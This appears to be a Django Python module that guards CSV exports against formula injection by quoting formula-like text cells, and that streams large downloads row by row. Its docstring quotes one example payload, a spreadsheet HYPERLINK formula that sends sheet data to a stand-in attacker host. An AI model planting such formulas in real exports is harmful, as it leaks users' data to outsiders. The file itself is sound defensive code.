"""Every CSV the system writes goes through here, so no cell opens in a spreadsheet as a formula.

A name, a need or a note typed by a person can begin with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return, which some spreadsheets skip before reading one of those): opened in Excel or
LibreOffice, ``=HYPERLINK("http://evil.example/?d="&A1,"Open")`` becomes a live link that sends the
sheet's data away. Such a text cell is written with a leading single quote, which spreadsheets
show as plain text (OWASP's advice on CSV injection). Numbers are data, not formulas: -3 stays -3.
"""

import csv
from collections.abc import Callable, Iterable
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value`` as it may safely stand in a CSV cell: a text that a spreadsheet would read as a
    formula gains a leading quote; anything else (numbers, dates, None) is left as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` over ``file``, neutralising each text cell first (see ``csv_cell``)."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options) -> SafeWriter:
    """The one way to write CSV: like ``csv.writer(file)``, with formula-looking text neutralised."""
    return SafeWriter(file, **options)


# Rows read from the database at a time while a CSV streams: memory stays flat however long the export.
STREAM_CHUNK = 2000


class _Echo:
    """A file that hands back what is written to it, so the writer yields each line instead of keeping it."""

    def write(self, value: str) -> str:
        return value


def csv_stream(
    *, filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]], on_done: Callable[[int], None] | None = None
) -> StreamingHttpResponse:
    """A CSV download written line by line as ``rows`` is read (pass a queryset's ``.iterator(chunk_size=STREAM_CHUNK)``
    or another generator), never held whole in memory. ``on_done`` is told how many rows left (the header not
    counted), also when the download stops part way: Django closes the stream, which runs the ``finally``."""
    writer = csv_writer(_Echo())

    def lines():
        sent = 0
        try:
            yield writer.writerow(header)
            for row in rows:
                line = writer.writerow(row)
                sent += 1  # counted once handed over: the log says more rather than less left
                yield line
        finally:
            if on_done is not None:
                on_done(sent)

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
